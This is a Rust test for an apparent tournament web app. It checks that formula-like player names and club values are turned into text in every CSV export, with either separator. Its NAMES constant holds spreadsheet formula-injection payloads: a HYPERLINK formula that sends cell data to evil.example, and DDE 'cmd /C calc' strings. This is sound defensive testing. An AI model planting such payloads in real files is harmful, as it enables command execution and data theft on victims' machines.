//! Formula injection: names that a spreadsheet would run come out of every CSV export as text,
//! with either separator, while numbers stay numbers.

use crate::helpers::*;

const NAMES: [&str; 4] = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Wyniki\")",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
];

/// Every cell of a CSV export (after its BOM).
fn cells(page: &Page, sep: u8) -> Vec<Vec<String>> {
    assert_eq!(page.status, 200);
    assert!(page.content_type.starts_with("text/csv"), "{}", page.content_type);
    let text = page.body.trim_start_matches('\u{feff}');
    csv::ReaderBuilder::new()
        .delimiter(sep)
        .has_headers(false)
        .flexible(true)
        .from_reader(text.as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(str::to_string).collect())
        .collect()
}

fn is_number(s: &str) -> bool {
    s.trim_start_matches(['-', '+']).replace(',', ".").parse::<f64>().is_ok()
}

#[actix_rt::test]
async fn formula_like_names_come_out_neutralised_in_every_csv_with_both_separators() {
    let app = TestApp::spawn().await;
    let mut csv = String::from("name;birth date;club\n");
    for (i, name) in NAMES.iter().enumerate() {
        // Quoted for the CSV import (the names hold quotes and semicolons-free formulas).
        csv.push_str(&format!("\"{}\";2010-0{}-15;=1+{i}\n", name.replace('"', "\"\""), i + 1));
    }
    let (t, _, referee, _) = crate::setup::Day::new(&app)
        .swiss_only("2")
        .imported(&csv)
        .referee()
        .published()
        .open()
        .await
        .into_parts();
    play_round_red_first_wins(&referee, t, 1).await;

    let public = app.browser();
    let mut seen_names = 0;
    for path in [
        format!("/t/{t}/export/pairings/1"),
        format!("/t/{t}/export/standings"),
        format!("/t/{t}/export/results"),
    ] {
        for (query, sep) in [("", b';'), ("?sep=comma", b',')] {
            let rows = cells(&public.get(&format!("{path}{query}")).await, sep);
            assert!(rows.len() > 1, "{path}{query}");
            for cell in rows.iter().flatten() {
                let first = cell.chars().next();
                let risky = matches!(first, Some('=' | '+' | '-' | '@' | '\t' | '\r'));
                assert!(!risky || is_number(cell), "{path}{query}: a cell starts a formula: {cell:?}");
            }
            for name in NAMES {
                if rows.iter().flatten().any(|c| *c == format!("'{name}")) {
                    seen_names += 1;
                }
                assert!(!rows.iter().flatten().any(|c| c == name), "{path}{query}: {name} verbatim");
            }
        }
    }
    // Every name, in each of the six exports that lists it (pairings and results list both players
    // of each match, standings every player): 4 names x 3 exports x 2 separators.
    assert_eq!(seen_names, 24);
    // The clubs (`=1+0` ...) are neutralised in the standings too, and the points stay numbers.
    let standings = cells(&public.get(&format!("/t/{t}/export/standings")).await, b';');
    assert!(standings.iter().flatten().any(|c| c == "'=1+0"), "{standings:?}");
    assert!(standings[1..].iter().all(|row| is_number(&row[3])), "{standings:?}");
}
